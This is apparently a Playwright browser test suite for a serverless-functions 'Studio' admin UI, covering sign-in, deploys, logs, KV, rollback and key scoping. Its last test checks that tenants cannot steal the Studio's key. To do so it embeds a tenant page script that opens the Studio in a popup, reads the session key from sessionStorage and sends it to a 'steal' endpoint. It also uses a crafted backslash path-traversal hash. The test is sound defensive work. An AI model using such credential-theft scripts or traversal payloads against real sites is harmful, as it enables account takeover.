/**
 * The Studio in a real browser: Chromium (Debian's, or the one inside the npm package
 * `@sparticuz/chromium` where there is none: tests/chromium.ts) driven by playwright-core against
 * a real server. Screenshots of every page go to tests/output/ (ignored by git).
 */
import assert from "node:assert/strict";
import { type Browser, chromium, type Page } from "playwright-core";
import { API_KEY, appId, json, startServer, type TestServer, waitFor } from "./helpers.ts";
import { type ChromiumBinary, findChromium } from "./chromium.ts";

const OUTPUT = new URL("./output/", import.meta.url).pathname;

async function withStudio(
  fn: (s: TestServer, browser: Browser) => Promise<void>,
  binary?: ChromiumBinary,
): Promise<void> {
  const { executablePath, env } = binary ?? await findChromium();
  await Deno.mkdir(OUTPUT, { recursive: true });
  const s = await startServer();
  const browser = await chromium.launch({
    executablePath,
    env,
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-quic",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
    ],
  });
  try {
    await fn(s, browser);
  } finally {
    await browser.close();
    await s.close();
  }
}

async function signIn(page: Page, s: TestServer, key = API_KEY): Promise<void> {
  await page.goto(`${s.url}/studio`);
  await page.fill("#key", key);
  await page.click("#sign-in button[type=submit]");
}

const COUNTER_APP = {
  "api/hello.ts":
    `export default (ctx) => { console.log("hello from", ctx.req.query.who); return { body: { hi: ctx.req.query.who ?? "there", v: 1 } }; };`,
  "api/read.ts":
    `export default async (ctx) => ({ body: { value: await ctx.kv.get("greeting") } });`,
};

Deno.test({
  name: "the Studio in the npm package's Chromium (what a machine without one uses): sign in",
  async fn() {
    const binary = await findChromium("npm");
    assert.equal(binary.source, "npm");
    await withStudio(async (s, browser) => {
      const app = appId("npm-chromium");
      await s.deployOk(app, COUNTER_APP);
      const page = await browser.newPage();
      await signIn(page, s, "not-a-key");
      await page.waitForSelector("#sign-in-error:has-text('That key was refused')");
      await signIn(page, s);
      await page.waitForSelector(`#apps tr[data-app="${app}"]`);
      assert.match(browser.version(), /^\d+\./);
    }, binary);
  },
});

Deno.test({
  name:
    "the Studio, in Chromium: sign in, apps, try-it with logs, live tail, KV, rollback, scoping",
  async fn() {
    await withStudio(async (s, browser) => {
      const page = await browser.newPage();
      // A wrong key gets a clear message; the page is served with a strict CSP.
      const shell = await page.goto(`${s.url}/studio`);
      assert.match(shell!.headers()["content-security-policy"] ?? "", /default-src 'none'/);
      assert.equal(shell!.headers()["x-frame-options"], "DENY");
      await signIn(page, s, "not-a-key");
      await page.waitForSelector("#sign-in-error:has-text('That key was refused')");
      await page.screenshot({ path: `${OUTPUT}sign-in.png` });

      // Deploy through the API, then see the app and its routes.
      const app = appId("studio");
      const first = await s.deployOk(app, COUNTER_APP, { message: "first" });
      const second = await s.deployOk(app, {
        ...COUNTER_APP,
        "api/hello.ts": COUNTER_APP["api/hello.ts"].replace("v: 1", "v: 2"),
        "api/extra.ts": "export default () => ({ body: 'only in the second' });",
      }, { message: "second" });
      await signIn(page, s);
      await page.waitForSelector(`#apps tr[data-app="${app}"]`);
      await page.screenshot({ path: `${OUTPUT}apps.png` });
      await page.click(`#apps tr[data-app="${app}"] a`);
      await page.waitForSelector(`.try-it[data-route="/functions/hello"]`);

      // Try-it: the function's answer and its log line.
      const tryIt = page.locator(`.try-it[data-route="/functions/hello"]`);
      await tryIt.locator("input[name=query]").fill("who=ada");
      await tryIt.locator("button:has-text('Send')").click();
      await tryIt.locator('.response-body:has-text(\'"hi":"ada"\')').waitFor();
      await tryIt.locator(".log:has-text('hello from ada')").waitFor();
      await page.screenshot({ path: `${OUTPUT}functions.png`, fullPage: true });

      // The live tail shows a new line within 2 s of the request.
      await page.goto(`${s.url}/studio#/apps/${app}/logs`);
      await page.waitForSelector("#live-tail");
      await new Promise((resolve) => setTimeout(resolve, 500));
      const sent = performance.now();
      await (await s.call(app, "/hello?who=tail")).body?.cancel();
      await page.locator("#live-tail:has-text('hello from tail')").waitFor({ timeout: 2000 });
      assert.ok(performance.now() - sent < 2000);
      await page.screenshot({ path: `${OUTPUT}logs.png` });

      // Edit a KV value in the browser; the function reads it.
      await page.goto(`${s.url}/studio#/apps/${app}/kv`);
      await page.fill("input[name=new-key]", "greeting");
      await page.click("button:has-text('New')");
      await page.fill("#kv-editor textarea[name=value]", "set in the Studio");
      await page.click("#kv-save");
      await page.locator("#kv-editor:has-text('saved')").waitFor();
      assert.deepEqual(await json(await s.call(app, "/read"), 200), { value: "set in the Studio" });
      await page.locator("#kv-expiry:has-text('(in ')").waitFor();
      assert.match(await page.locator("#kv-expiry").innerText(), /\(in (29|30) d \d+ h\)/);
      // Saving with an empty TTL keeps the key's remaining expiry.
      await json(
        await s.api(`/apps/${app}/kv/short`, { method: "PUT", json: { value: "a", ttl: 3600 } }),
        200,
      );
      const expiry = async () =>
        (await json<{ expires_at: string }>(await s.api(`/apps/${app}/kv/short`), 200)).expires_at;
      const before = await expiry();
      await page.fill("input[name=new-key]", "short");
      await page.click("button:has-text('New')");
      await page.locator(
        "#kv-expiry:has-text('(in 59 min)'), #kv-expiry:has-text('(in 1 h 0 min)')",
      )
        .waitFor();
      await page.fill("#kv-editor textarea[name=value]", "b");
      await page.click("#kv-save");
      await page.locator("#kv-editor p:has-text('saved')").waitFor();
      assert.ok(Math.abs(Date.parse(await expiry()) - Date.parse(before)) < 1000);
      await page.screenshot({ path: `${OUTPUT}kv.png` });
      // Paging over three pages (50 a page) shows every key once, and no More after the last.
      for (let i = 0; i < 100; i++) {
        await json(
          await s.api(`/apps/${app}/kv/p${String(i).padStart(3, "0")}`, {
            method: "PUT",
            json: { value: "v" },
          }),
          200,
        );
      }
      await page.click("button:has-text('Search')");
      await page.locator("#kv-keys a[data-key]").nth(49).waitFor();
      for (const shown of [100, 102]) {
        await page.click("#kv-more");
        await page.locator("#kv-keys a[data-key]").nth(shown - 1).waitFor();
      }
      const keys = await page.locator("#kv-keys a[data-key]").evaluateAll((links) =>
        links.map((a) => a.getAttribute("data-key"))
      );
      assert.equal(keys.length, 102);
      assert.equal(new Set(keys).size, 102, "no key is listed twice");
      assert.ok(await page.locator("#kv-more").isHidden(), "no More once the listing is done");

      // Roll back in the UI (confirming), and the function's answer changes.
      assert.equal((await json(await s.call(app, "/hello"), 200)).v, 2);
      page.once("dialog", (dialog) => void dialog.accept());
      await page.goto(`${s.url}/studio#/apps/${app}/deployments`);
      await page.click(`#deployments tr[data-deployment="${first.id}"] button.rollback`);
      await waitFor(
        "the rollback",
        async () => (await json(await s.call(app, "/hello"), 200)).v === 1,
        5000,
      );
      // v1 is marked live and v2 previous (not the newest as live), and v2 can be rolled forward.
      await page.locator(`#deployments tr[data-deployment="${first.id}"][data-live]`).waitFor();
      await page.locator(`#deployments tr[data-deployment="${second.id}"][data-previous]`)
        .waitFor();
      assert.equal(
        await page.locator(`tr[data-deployment="${first.id}"] button.rollback`).count(),
        0,
      );
      await page.screenshot({ path: `${OUTPUT}deployments.png`, fullPage: true });
      // The Functions tab lists the live deployment's routes: v1 has no /functions/extra.
      await page.goto(`${s.url}/studio#/apps/${app}/functions`);
      await page.waitForSelector(`.try-it[data-route="/functions/hello"]`);
      assert.equal(await page.locator(`.try-it[data-route="/functions/extra"]`).count(), 0);
      page.once("dialog", (dialog) => void dialog.accept());
      await page.goto(`${s.url}/studio#/apps/${app}/deployments`);
      await page.click(
        `#deployments tr[data-deployment="${second.id}"] button:has-text('Roll forward')`,
      );
      await page.locator(`#deployments tr[data-deployment="${second.id}"][data-live]`).waitFor();
      await page.locator(`#deployments tr[data-deployment="${first.id}"][data-previous]`).waitFor();
      assert.equal((await json(await s.call(app, "/hello"), 200)).v, 2);

      // Variables and keys: values never shown; a created key is shown once.
      await page.goto(`${s.url}/studio#/apps/${app}/variables`);
      await page.fill("input[name=name]", "GREETING");
      await page.fill("input[name=value]", "a-secret-value");
      await page.click("button:has-text('Set')");
      await page.waitForSelector("#vars td:has-text('GREETING')");
      assert.ok(!(await page.content()).includes("a-secret-value"));
      await page.screenshot({ path: `${OUTPUT}variables.png` });
      await page.goto(`${s.url}/studio#/apps/${app}/keys`);
      await page.click("button:has-text('Create a key')");
      await page.waitForSelector("#new-key:has-text('fnk_')");
      await page.screenshot({ path: `${OUTPUT}keys.png` });

      await page.goto(`${s.url}/studio#/apps/${app}/metrics`);
      await page.waitForSelector("#charts svg.chart");
      await page.screenshot({ path: `${OUTPUT}metrics.png`, fullPage: true });

      // A per-app key sees only its own app.
      await s.deployOk(appId("other"), COUNTER_APP);
      const key = await json<{ key: string }>(
        await s.api(`/apps/${app}/keys`, { method: "POST" }),
        201,
      );
      const scoped = await browser.newPage();
      await signIn(scoped, s, key.key);
      await scoped.waitForSelector(`#apps tr[data-app="${app}"]`);
      assert.equal(await scoped.locator("#apps tr[data-app]").count(), 1);
      await scoped.close();
    });
  },
});

/** A tenant's page: redirects the tab to `to`, or opens the Studio on its own host in a popup. */
const THIEF_PAGE = `<!doctype html><script>
const q = new URLSearchParams(location.search);
const report = (what) => fetch("/functions/steal/report?got=" + encodeURIComponent(JSON.stringify(what)));
if (q.get("mode") === "redirect") location.href = q.get("to");
if (q.get("mode") === "popup") {
  const w = window.open("/studio");
  const started = Date.now();
  const look = () => {
    let got;
    try {
      if (w.document.readyState !== "complete" || w.location.pathname !== "/studio") throw 0;
      got = { key: w.sessionStorage.getItem("fn-studio-key"), text: w.document.body.innerText };
    } catch (error) {
      if (Date.now() - started < 10000) return setTimeout(look, 50);
      got = { error: String(error) };
    }
    report(got);
  };
  look();
}
</script>`;

Deno.test({
  name:
    "the Studio's key never reaches a tenant: a crafted hash, the Studio in a popup on the tenant's host, keys in headers, Clear-Site-Data",
  async fn() {
    await withStudio(async (s, browser) => {
      const thief = appId("thief");
      const tenant = `http://${thief}.localhost:${new URL(s.url).port}`;
      await s.deployOk(thief, {
        // A catch-all, so that the paths a crafted hash would build all reach it.
        "api/steal/[...rest].ts":
          `export default (ctx) => { console.log("seen " + JSON.stringify({ path: ctx.req.path, headers: ctx.req.headers, query: ctx.req.query })); return { body: "ok" }; };`,
        "api/page.ts": `export default () => ({ headers: { "content-type": "text/html" }, body: ${
          JSON.stringify(THIEF_PAGE)
        } });`,
        "api/wipe.ts":
          `export default () => ({ headers: { "clear-site-data": '"cookies", "storage"' }, body: "wiped?" });`,
      });
      const { key: appKey } = await json<{ key: string }>(
        await s.api(`/apps/${thief}/keys`, { method: "POST" }),
        201,
      );
      const crafted = `#/apps/..\\..\\apps\\${thief}\\functions\\steal/functions`;
      const withKey: string[] = [];
      const watch = (page: Page) =>
        page.on("request", (request) => {
          // The one request below that sends keys to a function on purpose is not the Studio's.
          const deliberate = request.url().endsWith("/functions/steal/headers");
          if (request.headers().authorization && !deliberate) withKey.push(request.url());
        });

      // A tenant page redirects a signed-in Studio tab to a crafted hash: the Studio refuses it.
      const page = await browser.newPage();
      watch(page);
      await signIn(page, s);
      await page.waitForSelector("#apps");
      const to = `${s.url}/studio${crafted}`;
      await page.goto(`${tenant}/functions/page?mode=redirect&to=${encodeURIComponent(to)}`);
      await page.locator("#route-error:has-text('is not an app id')").waitFor();
      // The same with a per-app key signed in, by a hash change in the open Studio.
      const scoped = await browser.newPage();
      watch(scoped);
      await signIn(scoped, s, appKey);
      await scoped.waitForSelector(`#apps tr[data-app="${thief}"]`);
      await scoped.evaluate((hash) => location.hash = hash, crafted);
      await scoped.locator("#route-error:has-text('is not an app id')").waitFor();

      // A tenant page opens /studio on its own host in a popup: there is no Studio there.
      const opener = await browser.newPage();
      const popup = opener.waitForEvent("popup");
      await opener.goto(`${tenant}/functions/page?mode=popup`);
      const studio = await popup;
      await studio.waitForLoadState();
      assert.match(await studio.content(), /serves only \/functions/);
      assert.equal(await studio.locator("#key").count(), 0, "no sign-in form on a tenant host");

      // Keys sent to a function in headers never reach it (the host strips them).
      await page.goto(`${s.url}/studio#/apps`);
      const status = await page.evaluate(async ({ path, admin, perApp }) => {
        const response = await fetch(path, {
          headers: { authorization: `Bearer ${admin}`, "x-api-key": perApp },
        });
        return response.status;
      }, { path: `/apps/${thief}/functions/steal/headers`, admin: API_KEY, perApp: appKey });
      assert.equal(status, 200);

      // Clear-Site-Data from a function on the shared origin never reaches the browser.
      await page.context().addCookies([{ name: "kept", value: "1", url: s.url }]);
      const wiped = page.waitForResponse((r) => r.url().endsWith("/functions/wipe"));
      await page.evaluate(
        (path) => fetch(path).then((r) => r.text()),
        `/apps/${thief}/functions/wipe`,
      );
      assert.equal((await (await wiped).allHeaders())["clear-site-data"], undefined);
      assert.deepEqual((await page.context().cookies(s.url)).map((c) => c.name), ["kept"]);
      assert.ok(await page.evaluate(() => sessionStorage.getItem("fn-studio-key")));

      // Read back through the logs API: the function ran, and no key ever arrived.
      let seen: string[] = [];
      await waitFor("the tenant's log lines", async () => {
        seen = (await s.logs(thief, "q=seen&limit=100")).map((e) => e.message);
        return seen.some((m) => m.includes("/report")) && seen.some((m) => m.includes("/headers"));
      }, 10_000);
      const popupReport = seen.find((m) => m.includes("/report"))!;
      assert.match(popupReport, /\\"key\\":null|"error"/);
      for (const line of seen) {
        assert.ok(!line.includes(API_KEY), `the admin key reached the tenant: ${line}`);
        assert.ok(!line.includes(appKey), `a per-app key reached the tenant: ${line}`);
      }
      assert.ok(
        withKey.every((url) => url.startsWith(`${s.url}/v1/`)),
        `the key went elsewhere: ${withKey.filter((u) => !u.startsWith(`${s.url}/v1/`))}`,
      );
      assert.ok(withKey.length > 0);
    });
  },
});
